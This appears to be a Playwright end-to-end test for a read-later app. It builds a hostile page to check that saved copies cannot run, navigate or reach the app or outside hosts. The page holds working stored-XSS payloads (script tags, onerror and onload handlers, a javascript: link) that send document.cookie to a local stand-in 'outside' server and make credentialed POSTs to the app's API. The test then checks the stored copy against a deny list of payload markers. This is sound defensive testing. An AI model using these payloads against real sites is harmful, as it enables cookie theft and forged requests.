import { expect, test } from '@playwright/test';
import type { ContentItem, PageCopyStatus } from '@vault/contracts';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { bypassPreview, signUp, uniqueCredentials } from '../helpers';
import { saveThroughApi, waitForExtractions } from '../library-helpers';
import { setPlan } from '../support/database';

/**
 * A saved copy can never run, submit, navigate, or reach the app's origin, cookies or API, nor
 * any outside address: stored-script payloads of every kind go into a copy, and while it is shown
 * a listener standing for "outside" records every request and the app's data is watched.
 */

let outside: http.Server;
let outsideOrigin = '';
const outsideHits: string[] = [];
let site: http.Server;
let siteOrigin = '';

const PROSE =
  '<p>Ordinary words of a hostile page, enough for the extractor to find its main text. </p>'.repeat(
    8,
  );

function hostilePage(appOrigin: string): string {
  const leak = (label: string) =>
    `fetch('${outsideOrigin}/${label}?c=' + encodeURIComponent(document.cookie), {mode: 'no-cors'}); ` +
    `fetch('${appOrigin}/api/content', {method: 'POST', credentials: 'include', headers: {'content-type': 'application/json'}, body: JSON.stringify({url: '${outsideOrigin}/saved-by-${label}'})}); ` +
    `console.log('PAYLOAD RAN ${label}'); top.document.title = 'PWNED ${label}';`;
  return `<!doctype html><html><head><title>Hostile copy</title>
<meta http-equiv="refresh" content="0;url=${outsideOrigin}/refresh">
<base href="${outsideOrigin}/base/">
<script>${leak('inline-script')}</script>
<style>body { background: url("${outsideOrigin}/css-background.png"); }
@import url("${outsideOrigin}/imported.css");
@font-face { font-family: Leak; src: url("${outsideOrigin}/font.woff2"); }</style>
<link rel="prefetch" href="${outsideOrigin}/prefetch">
</head><body onload="${leak('body-onload').replace(/"/g, '&quot;')}">
<article><h1>Hostile copy</h1>${PROSE}
<img src="/missing.png" onerror="${leak('img-onerror').replace(/"/g, '&quot;')}" alt="broken">
<svg onload="${leak('svg-onload').replace(/"/g, '&quot;')}" width="10" height="10"><rect width="10" height="10"/></svg>
<p><a id="js-link" href="javascript:${leak('javascript-link').replace(/"/g, '&quot;')}">Click me</a></p>
<form id="post-form" action="${appOrigin}/api/content" method="post">
  <input name="url" value="${outsideOrigin}/saved-by-form"><button id="post-button" formaction="${appOrigin}/api/auth/logout">Send</button>
</form>
<iframe id="app-frame" src="${appOrigin}/"></iframe>
<object data="${outsideOrigin}/object"></object>
<div style="width: 20px; height: 20px; background-image: url('${outsideOrigin}/inline-style.png')">x</div>
<a id="outside-link" href="${outsideOrigin}/navigate">Go outside</a>
</article></body></html>`;
}

test.beforeAll(async () => {
  // "Outside": answers 404 to everything, so nothing from it is ever inlined into a copy.
  outside = http.createServer((request, response) => {
    outsideHits.push(request.url ?? '');
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  outsideOrigin = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  outside.closeAllConnections();
  await new Promise((resolve) => outside.close(resolve));
  if (site) {
    site.closeAllConnections();
    await new Promise((resolve) => site.close(resolve));
  }
});

test('stored-script payloads in a saved copy never run and never reach the app or outside', async ({
  page,
  baseURL,
}) => {
  test.slow();
  const appOrigin = new URL(baseURL!).origin;
  site = http.createServer((_request, response) => {
    response
      .writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      .end(hostilePage(appOrigin));
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  siteOrigin = `http://127.0.0.1:${(site.address() as AddressInfo).port}`;

  const dialogs: string[] = [];
  const consoleLines: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('console', (message) => consoleLines.push(message.text()));
  await bypassPreview(page);
  const user = uniqueCredentials();
  await signUp(page, user);
  await setPlan(user.username, 'pro');
  const item: ContentItem = await saveThroughApi(page, baseURL!, `${siteOrigin}/hostile`);
  await waitForExtractions(page, 1);
  await expect
    .poll(
      async () => {
        const response = await page.request.get(`/api/content/${item.id}/copy/status`);
        return ((await response.json()) as PageCopyStatus).state;
      },
      { timeout: 90_000 },
    )
    .toBe('ready');
  // From here on, only what the browser does with the copy counts.
  outsideHits.length = 0;
  const itemsBefore = (await (
    await page.request.get('/api/content?limit=100')
  ).json()) as ContentItem[];

  const copyRequests: string[] = [];
  page.on('request', (request) => {
    if (request.frame().parentFrame() !== null) copyRequests.push(request.url());
  });
  await page.goto(`/content/${item.id}`);
  await page.getByRole('radio', { name: 'Saved copy' }).click({ force: true });
  const copy = page.frameLocator('[data-testid="saved-copy-frame"]');
  await expect(copy.locator('h1')).toHaveText('Hostile copy');
  await expect(page).toHaveTitle('Hostile copy · Vault');

  // What a reader might do inside the copy: click its links and its form's button.
  await copy
    .locator('#js-link')
    .click({ force: true })
    .catch(() => undefined);
  await copy
    .locator('#post-button')
    .click({ force: true })
    .catch(() => undefined);
  await copy
    .locator('#outside-link')
    .click({ force: true })
    .catch(() => undefined);
  // Time for a refresh, a handler or a late request to happen, if any could (the app keeps its
  // event stream open, so the network never goes idle).
  await page.waitForTimeout(3_000);

  // Nothing reached outside, nothing ran, and the app was neither navigated nor changed.
  expect(outsideHits).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(consoleLines.filter((line) => line.includes('PAYLOAD RAN'))).toEqual([]);
  expect(await page.title()).toBe('Hostile copy · Vault');
  expect(page.url()).toBe(`${baseURL}/content/${item.id}`);
  // The only request of the copy's frame is the copy itself.
  expect(copyRequests.filter((url) => !url.endsWith(`/api/content/${item.id}/copy`))).toEqual([]);
  const itemsAfter = (await (
    await page.request.get('/api/content?limit=100')
  ).json()) as ContentItem[];
  expect(itemsAfter.map((entry) => entry.id)).toEqual(itemsBefore.map((entry) => entry.id));
  // Still signed in: the form aimed at sign-out submitted nothing.
  expect((await page.request.get('/api/auth/user')).status()).toBe(200);

  // The copy itself carries none of the payloads.
  const html = await (await page.request.get(`/api/content/${item.id}/copy`)).text();
  for (const gone of [
    '<script',
    'onerror',
    'onload',
    'javascript:',
    '<iframe',
    '<form',
    '<object',
    'http-equiv',
    '<base',
    'href=',
  ])
    expect(html, gone).not.toContain(gone);
});
